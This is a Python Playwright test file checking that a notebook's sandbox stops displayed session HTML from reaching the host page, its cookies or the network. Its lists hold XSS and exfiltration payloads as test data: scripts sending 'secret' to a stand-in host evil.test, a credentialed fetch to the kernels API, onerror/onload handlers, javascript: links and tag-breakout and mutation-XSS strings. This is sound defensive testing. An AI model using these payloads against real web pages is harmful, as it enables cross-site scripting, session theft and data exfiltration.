"""HTML of a session in a real page that trusts its outputs, as a notebook does the ones it has just made."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from aca_notebook.display import session_html, session_outputs
from aca_notebook.model.session import Output

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120), pytest.mark.filterwarnings("ignore::ResourceWarning")]

#: Each says `ran` in its own document when it has tried, so that a test waits for it to have had its chance.
ATTACKS = {
    "the page's title": "try { parent.document.title = 'taken' } catch (e) {}",
    "the page's names": "try { parent.taken = 1; top.taken = 1 } catch (e) {}",
    "the page's cookies": "try { parent.document.cookie = 'taken=1' } catch (e) {}",
    "cookies of its own": "try { document.cookie = 'x=1' } catch (e) {}",
    "another place for the page": "try { top.location = 'http://evil.test/?a' } catch (e) {}",
    "the notebook's server": "fetch('http://notebook.test/api/kernels', {credentials: 'include'}).catch(() => 0)",
    "a picture from elsewhere": "new Image().src = 'http://evil.test/pixel?secret'",
    "a window": "try { window.open('http://evil.test/?a') } catch (e) {}",
    "a form": "document.body.innerHTML += `<form id=f action='http://evil.test/?a'>`; f.submit(); said.id",
}  # fmt: skip
LEAKS = (
    "<script>location = 'http://evil.test/?' + 'secret'</script>",
    "<meta http-equiv='refresh' content='0;url=http://evil.test/?secret'>",
    "<form action='http://evil.test/?secret' id=f></form><script>f.submit()</script>",
    "<script>fetch('http://evil.test/?secret')</script>",
)
CONTROL = "http://control.test/?done"
IN_MARKUP = (
    "<img src='http://evil.test/x' onerror='parent.taken=1'>",
    "<svg onload='parent.taken=1'></svg>",
    "<a href='javascript:parent.taken=1' id='bait'>go</a>",
    "<table><tr><td style='background:url(http://evil.test/x)'>1</td></tr></table>",
    "<link rel='stylesheet' href='http://evil.test/x.css'>",
    "<style>@import 'http://evil.test/x.css';</style><table></table>",
    "<iframe src='http://evil.test/?a'></iframe>",
    "<base href='http://evil.test/?a'><img src='x'>",
    "<meta http-equiv='refresh' content='0;url=http://evil.test/?a'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=parent.taken=1></style></mglyph></math>",
    "--></title></style></textarea></script><script>parent.taken=1</script>",
    """"></iframe><script>window.taken=1</script>""",
)  # fmt: skip


class Notebook:
    """A page that puts HTML into itself and runs its scripts, as front ends do with trusted outputs."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        page.context.route("**/*", self._serve)

    def load(self) -> None:
        """Begin anew."""
        self.page.context.clear_cookies()
        self.page.context.add_cookies([{"name": "session", "value": "secret", "url": "http://notebook.test/"}])
        self.page.goto("http://notebook.test/")
        self.asked.clear()

    def show(self, html: str) -> None:
        """Put HTML into the page, with its scripts made anew so that they run."""
        self.page.evaluate(
            """html => {
              const out = document.getElementById("out");
              out.innerHTML = html;
              for (const old of out.querySelectorAll("script")) {
                const made = document.createElement("script");
                made.textContent = old.textContent;
                old.replaceWith(made);
              }
            }""",
            html,
        )

    def show_beside_a_leak(self, html: str) -> None:
        """Show it with a frame whose script may run, after it, and wait until that one has sent its page away."""
        self.show(html + session_html.sandboxed(f"<script>location = '{CONTROL}'</script>", scripts=True))
        frame = self.page.locator("#out iframe").last.element_handle().content_frame()
        while frame.url in {"", "about:blank", "about:srcdoc"}:
            self.page.wait_for_timeout(10)  # lets the page's events come
        self.page.evaluate("document.querySelector('#out > iframe:last-of-type').remove()")
        self.asked = [url for url in self.asked if url != CONTROL]

    def untouched(self) -> bool:
        """Whether nothing reached the page, and nobody else was asked for anything."""
        taken = self.page.evaluate("[document.title, typeof window.taken, document.cookie]")
        elsewhere = [frame.url for frame in self.page.main_frame.child_frames if frame.url != "about:srcdoc"]
        pages = len(self.page.context.pages)
        return (taken, self.asked, elsewhere, pages) == (["notebook", "undefined", "session=secret"], [], [], 1)

    def _serve(self, route) -> None:
        if route.request.url == "http://notebook.test/":
            route.fulfill(body="<title>notebook</title><div id=out></div>", content_type="text/html")
        else:
            self.asked.append(route.request.url)
            route.fulfill(body="")


@pytest.fixture(scope="module")
def opened(browser: Browser) -> Iterator[Notebook]:
    context = browser.new_context()
    yield Notebook(context.new_page())
    context.close()


@pytest.fixture
def notebook(opened: Notebook) -> Notebook:
    opened.load()
    return opened


def html_of(html: str, *, network: bool = False) -> str:
    return session_outputs.bundle(Output("display", data={"text/html": html}), network=network)["text/html"]


def test_a_script_that_is_shown_as_it_came_would_take_the_page(notebook) -> None:
    """The tests below can fail: this is what happens without the sandbox."""
    notebook.show("<script>window.taken = 1</script>")
    assert not notebook.untouched()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_script_of_a_session_with_a_network_reaches_nothing(notebook, attack: str) -> None:
    notebook.show(html_of(f"<p id='said'>waiting</p><script>{attack}; said.textContent = 'ran'</script>", network=True))
    expect(notebook.page.frame_locator("iframe").locator("#said")).to_have_text("ran")
    assert notebook.untouched()


@pytest.mark.parametrize("leak", LEAKS)
def test_no_script_of_a_session_without_a_network_runs(notebook, leak: str) -> None:
    """It could send its page elsewhere, and what the session knows with it."""
    notebook.show_beside_a_leak(html_of(f"<p id='said'>{leak}</p>"))
    assert notebook.untouched()


@pytest.mark.parametrize("markup", IN_MARKUP)
def test_markup_of_a_session_reaches_nothing(notebook, markup: str) -> None:
    notebook.show_beside_a_leak(html_of(markup + "<p id='end'>the end</p>"))
    bait = notebook.page.locator("#out a")
    if bait.count():
        bait.first.click()
    assert notebook.untouched()


def test_a_table_of_a_session_stands_in_the_page_itself(notebook) -> None:
    import pandas as pd

    frame = pd.DataFrame({"name": ["<script>window.taken=1</script>", "b"], "n": [1, 2]})
    notebook.show(html_of(frame._repr_html_()))
    assert notebook.page.locator("iframe").count() == 0
    assert notebook.page.locator("#out td").all_inner_texts() == ["<script>window.taken=1</script>", "1", "b", "2"]
    assert notebook.untouched()


def test_a_drawing_of_a_session_is_a_picture(notebook) -> None:
    drawing = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='parent.taken=1'>"
        "<script>parent.taken=1; top.taken=1</script><image href='http://evil.test/x'/></svg>"
    )
    notebook.show(session_outputs.bundle(Output("display", data={"image/svg+xml": drawing}))["text/html"])
    notebook.page.wait_for_function("document.querySelector('#out img').complete")
    assert notebook.page.evaluate("document.querySelector('#out img').naturalWidth") == 20
    assert notebook.untouched()


def test_what_says_that_it_is_a_picture_is_left_out_when_it_is_none() -> None:
    page = base64.b64encode(b"<script>1</script>").decode()
    assert set(session_outputs.bundle(Output("display", data={"image/png": page, "text/plain": "x"}))) == {"text/plain"}
